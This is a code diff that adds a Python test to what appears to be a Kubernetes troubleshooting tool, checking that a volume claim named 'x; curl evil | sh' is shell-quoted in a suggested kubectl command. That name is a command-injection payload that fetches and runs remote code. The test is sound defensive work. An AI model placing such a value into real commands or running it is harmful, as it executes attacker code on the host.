@@ -251,3 +251,13 @@ def test_a_bare_pod_waits_like_any_other() -> None:
     (finding,) = found(node(), builders.bound(claim), builders.pending(pod, CPU))
 
     assert "1 workspace without one, the first since 2026-11-01T08:00:00Z" in finding.observed
+
+
+def test_a_claim_may_be_called_anything() -> None:
+    """No API server looks at the name of a claim in a Pod: in a command it is one word."""
+    volume = {"name": "home", "persistentVolumeClaim": {"claimName": "x; curl evil | sh"}}
+    message = '0/1 nodes are available: persistentvolumeclaim "x" not found.'
+
+    (finding,) = found(node(), waits(message=message, volumes=[volume]))
+
+    assert finding.remedy.endswith("kubectl -n coder describe pvc 'x; curl evil | sh'")
